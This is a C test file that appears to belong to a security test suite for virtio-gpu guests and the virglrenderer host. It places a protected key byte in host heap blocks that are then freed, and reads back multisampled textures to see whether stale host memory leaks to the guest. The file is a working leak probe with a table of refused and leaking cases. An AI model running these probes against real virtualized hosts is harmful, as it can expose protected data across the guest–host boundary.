/* SPDX-License-Identifier: MIT */
/*
 * R7: what the host keeps. virglrenderer stages what it transfers in its heap, storage of a texture comes
 * from there too, and both are freed as they are. A read-back that the host cannot do sends the guest a new
 * block of that heap, to which nothing was written. So what was freed must be gone before anybody gets it.
 *
 * The read-back: of a multisampled texture, which GL has no way to read, to memory in more than one piece,
 * for which the host has to stage. It ends the host's context, so each try is made with a file of its own.
 */
#include <errno.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include <drm/drm_mode.h>

#include "attack.h"
#include "restricted.h"
#include "scatter.h"

#define PROTECTED PROTECTED_OBJECT

enum { Y_0_TOP = 1 }; /* a flag of the protocol's: the host turns what it transfers */
enum { B8G8R8A8 = 1, R8_UNORM = 64, R8G8 = 65, R8G8B8A8 = 67 };

/*
 * Not every freed block is the next that the host takes: it may be merged with others, taken by Mesa, or go
 * back to the system. Of eight tries, all have missed once in some ten runs.
 */
#define TRIES 32

enum way { TURNED, COPIED, HANDED_OUT, FLIPPED, CLOSED, FILE_CLOSED, PROCESS_GONE, INLINE };

struct heap_case {
	enum way way;
	uint32_t format, cpp, width, height;
};

static size_t case_size(const struct heap_case *c)
{
	return (size_t)c->cpp * c->width * c->height;
}

/* An object over a TEE's memory, all of whose bytes are the key's lowest. */
static int fill_object(int fd, const struct heap_case *c, uint8_t byte, uint32_t flags,
		       struct object *memory, struct object *over)
{
	int dmabuf = alloc_protected((case_size(c) + 4095) & ~(size_t)4095), ret;

	if (dmabuf < 0)
		return dmabuf;
	ret = fill_protected(dmabuf, case_size(c), byte) ? import(fd, dmabuf, &memory->handle) : -EIO;
	close(dmabuf);
	if (ret || c->way == FLIPPED || c->way == HANDED_OUT)
		return ret;
	return create_on(fd, over, PROTECTED | flags, memory->handle, TEXTURE_2D, c->format,
			 RENDER_TARGET | SAMPLER, c->width, c->height, 0);
}

static int upload(int fd, const struct heap_case *c, struct object object)
{
	struct drm_virtgpu_3d_transfer_to_host to = {
		.bo_handle = object.handle, .box = { .w = c->width, .h = c->height, .d = 1 },
	};
	int ret = try_ioctl(fd, DRM_IOCTL_VIRTGPU_TRANSFER_TO_HOST, &to);

	return ret ? ret : wait_for(fd, object.handle);
}

/* By a stream, to storage that is turned. */
static int copy(int fd, const struct heap_case *c, struct object over, struct object *storage)
{
	int ret = create_on(fd, storage, PROTECTED | Y_0_TOP, 0, TEXTURE_2D, c->format, RENDER_TARGET | SAMPLER,
			    c->width, c->height, (uint32_t)case_size(c));
	const uint32_t stream[] = {
		HEADER(COPY_TRANSFER3D, 0, 14), storage->res, 0, 0, c->width * c->cpp, 0, 0, 0, 0,
		c->width, c->height, 1, over.res, 0, 1,
	};
	const uint32_t both[] = { storage->handle, over.handle };

	if (!ret)
		ret = submit_list(fd, VIRTGPU_EXECBUF_PROTECTED, stream, sizeof(stream), both, 2);
	return ret ? ret : wait_for(fd, storage->handle);
}

/* What a framebuffer of memory shows, which the kernel has turned, and hands out. */
static int take_from_framebuffer(int fd, const struct heap_case *c, struct object memory, struct object *object)
{
	struct drm_mode_fb_cmd2 get = { 0 };
	int ret = add_fb(fd, memory.handle, c->width, c->height, 0, c->width * 4, &get.fb_id);

	if (!ret)
		ret = try_ioctl(fd, DRM_IOCTL_MODE_GETFB2, &get);
	object->handle = get.handles[0];
	return ret;
}

static int show(int fd, const struct heap_case *c, struct object memory)
{
	uint32_t crtc, connector, fb;
	int ret = find_display(fd, &crtc, &connector);

	if (!ret)
		ret = add_fb(fd, memory.handle, c->width, c->height, 0, c->width * 4, &fb);
	return ret ? ret : set_crtc(fd, crtc, connector, fb, c->width, c->height);
}

/* Has the host handle the key in the case's way. Those that it is refused to are said so. */
static bool put_key(struct attempt *attempt, const struct heap_case *c)
{
	uint8_t byte = (uint8_t)attempt->key;
	struct object memory = { 0 }, object = { 0 }, storage = { 0 };
	int fd = open_driver("virtio_gpu"), ret;

	if (fd < 0)
		return false;
	if (c->way == INLINE) {
		ret = create(fd, &object, PROTECTED);
		if (!ret)
			ret = fill_texture(fd, VIRTGPU_EXECBUF_PROTECTED, object, byte * 0x01010101u);
	} else {
		ret = fill_object(fd, c, byte, c->way == TURNED ? Y_0_TOP : 0, &memory, &object);
		if (!ret && c->way == HANDED_OUT)
			ret = take_from_framebuffer(fd, c, memory, &object);
		if (!ret)
			ret = c->way == FLIPPED	 ? show(fd, c, memory)
			      : c->way == COPIED ? copy(fd, c, object, &storage)
						 : upload(fd, c, object);
	}
	if (ret) {
		said(attempt, ret);
		close(fd);
		return false;
	}
	if (c->way == CLOSED || c->way == INLINE)
		close_handle(fd, object.handle);
	close(fd);
	return true;
}

static bool put_key_in_child(struct attempt *attempt, const struct heap_case *c)
{
	pid_t child = fork();
	int status = -1;

	if (child == 0)
		_exit(!put_key(attempt, c));
	return child > 0 && waitpid(child, &status, 0) == child && status == 0;
}

static void read_heap(struct attempt *attempt, size_t size)
{
	uint32_t width = size >= 1 << 20 ? 640 : size >= 1 << 16 ? 64 : 16;
	struct drm_virtgpu_resource_create create = {
		.target = TEXTURE_2D, .format = R8G8B8A8, .bind = RENDER_TARGET | SAMPLER,
		.width = width, .height = (uint32_t)(size / 4 / width), .depth = 1, .array_size = 1,
		.nr_samples = 4, .size = (uint32_t)size,
	};
	struct drm_virtgpu_3d_transfer_from_host from = { 0 };
	int fd = open_driver("virtio_gpu");
	uint64_t offset;
	uint8_t *seen;

	if (fd < 0 || try_ioctl(fd, DRM_IOCTL_VIRTGPU_RESOURCE_CREATE, &create)) {
		broken(attempt, "no multisampled object");
		return;
	}
	from.bo_handle = create.bo_handle;
	from.box.w = create.width;
	from.box.h = create.height;
	from.box.d = 1;
	if (said(attempt, try_ioctl(fd, DRM_IOCTL_VIRTGPU_TRANSFER_FROM_HOST, &from)) ||
	    wait_for(fd, create.bo_handle) || map_offset(fd, create.bo_handle, &offset)) {
		close(fd);
		return;
	}
	seen = mmap(NULL, size, PROT_READ, MAP_SHARED, fd, (off_t)offset);
	if (seen == MAP_FAILED) {
		broken(attempt, "an ordinary object cannot be mapped");
	} else {
		look_for_run(attempt, seen, size, (uint8_t)attempt->key, "the host's heap");
		munmap(seen, size);
	}
	close(fd);
}

static void heap(struct attempt *attempt, const struct attack *attack)
{
	const struct heap_case *c = attack->what;

	if (!scatter_free_pages()) {
		broken(attempt, "free pages could not be scattered");
		return;
	}
	for (int i = 0; i < TRIES && !attempt->leaked && !attempt->refused && !attempt->broken; i++) {
		if (!(c->way == PROCESS_GONE ? put_key_in_child : put_key)(attempt, c)) {
			if (!attempt->refused)
				broken(attempt, "the host could not be given the key");
			return;
		}
		read_heap(attempt, case_size(c));
	}
}

#define CASE(...) (&(const struct heap_case){ __VA_ARGS__ })
#define HEAP(name, leak, ...) { "R7", "heap", "heap: " name, leak, heap, CASE(__VA_ARGS__), 0, true }
#define REFUSED(name, leak, ...) { "R7", "heap", "heap: " name, leak, heap, CASE(__VA_ARGS__), 0, false }

#define STAGED "the block in which the host turned it"
#define STORED "the storage that the host freed"

const struct attack heap_attacks[] = {
	REFUSED("turned, 64x64", STAGED, TURNED, B8G8R8A8, 4, 64, 64),
	REFUSED("turned, 256x256", STAGED, TURNED, B8G8R8A8, 4, 256, 256),
	REFUSED("turned, 640x480", STAGED, TURNED, B8G8R8A8, 4, 640, 480),
	REFUSED("turned, R8G8B8A8", STAGED, TURNED, R8G8B8A8, 4, 256, 256),
	REFUSED("turned, R8", STAGED, TURNED, R8_UNORM, 1, 640, 480),
	REFUSED("turned, R8G8", STAGED, TURNED, R8G8, 2, 320, 240),
	REFUSED("turned by a copy, 256x256", STAGED, COPIED, B8G8R8A8, 4, 256, 256),
	REFUSED("turned by a copy, 640x480", STAGED, COPIED, B8G8R8A8, 4, 640, 480),
	REFUSED("turned by a copy, R8", STAGED, COPIED, R8_UNORM, 1, 640, 480),
	REFUSED("turned for a framebuffer, 320x240", STAGED, HANDED_OUT, B8G8R8A8, 4, 320, 240),
	REFUSED("turned for a framebuffer, 640x480", STAGED, HANDED_OUT, B8G8R8A8, 4, 640, 480),
	HEAP("flipped, 320x240", STAGED, FLIPPED, B8G8R8A8, 4, 320, 240),
	HEAP("flipped, 640x480", STAGED, FLIPPED, B8G8R8A8, 4, 640, 480),
	HEAP("closed, 256x256", STORED, CLOSED, B8G8R8A8, 4, 256, 256),
	HEAP("closed, 320x240", STORED, CLOSED, B8G8R8A8, 4, 320, 240),
	HEAP("closed, R8G8B8A8", STORED, CLOSED, R8G8B8A8, 4, 640, 480),
	HEAP("closed file, 640x480", STORED, FILE_CLOSED, B8G8R8A8, 4, 640, 480),
	HEAP("gone process, 640x480", STORED, PROCESS_GONE, B8G8R8A8, 4, 640, 480),
	HEAP("closed, 640x480", STORED, CLOSED, B8G8R8A8, 4, 640, 480),
	HEAP("closed, R8", STORED, CLOSED, R8_UNORM, 1, 640, 480),
	HEAP("closed, R8G8", STORED, CLOSED, R8G8, 2, 640, 480),
	HEAP("closed file, 256x256", STORED, FILE_CLOSED, B8G8R8A8, 4, 256, 256),
	HEAP("written by a stream, 64x64", STORED, INLINE, B8G8R8A8, 4, 64, 64),
	{ 0 },
};
